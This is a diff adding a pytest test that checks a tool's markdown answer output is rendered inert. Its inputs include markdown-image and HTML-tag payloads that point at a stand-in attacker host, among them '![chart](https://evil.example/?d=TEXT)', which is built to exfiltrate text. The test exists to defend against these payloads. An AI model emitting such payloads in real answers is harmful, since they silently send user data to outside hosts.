@@ -181,6 +181,23 @@ def test_the_name_and_the_quote_of_a_source_stay_on_its_line() -> None:
     assert len(marks) == 2
 
 
+@pytest.mark.parametrize(
+    ("answer", "shown"),
+    [
+        ("![chart](https://evil.example/?d=TEXT)", "chart (image: `https://evil.example/?d=TEXT`)"),
+        ("![chart][x] ![x]\n[x]: //evil.example", "! [chart][x] ! [x]\n[x]: //evil.example"),
+        ("[terms](https://a.example 'title').", "terms (`https://a.example`)."),
+        ("<img src=//evil.example> <!-- hidden", "&lt;img src=//evil.example> &lt;!-- hidden"),
+        ("`x[0](y) < z`, List<String>, https://a.example", "`x[0](y) < z`, List<String>, https://a.example"),
+        ("```html\n<img src='a.png'>\n```\n<img>", "```html\n<img src='a.png'>\n```\n&lt;img>"),
+    ],
+)
+def test_plain_text_fetches_nothing_if_it_is_saved_as_markdown(answer: str, shown: str) -> None:
+    """`rlm ask … > answer.md`. Code is printed as it is."""
+    assert answer_text(result(answer)) == shown
+    assert not {"image", "html_block", "html_inline"} & set(live(shown))
+
+
 def test_hidden_characters_are_removed_or_shown() -> None:
     assert terminal_line("a\nb\t\x1b[31m\x9b\u202e\u200f") == "a\\nb\\t[31m"
     assert terminal_answer("\x1b]0;t\x07ok\u2066") == "]0;tok"
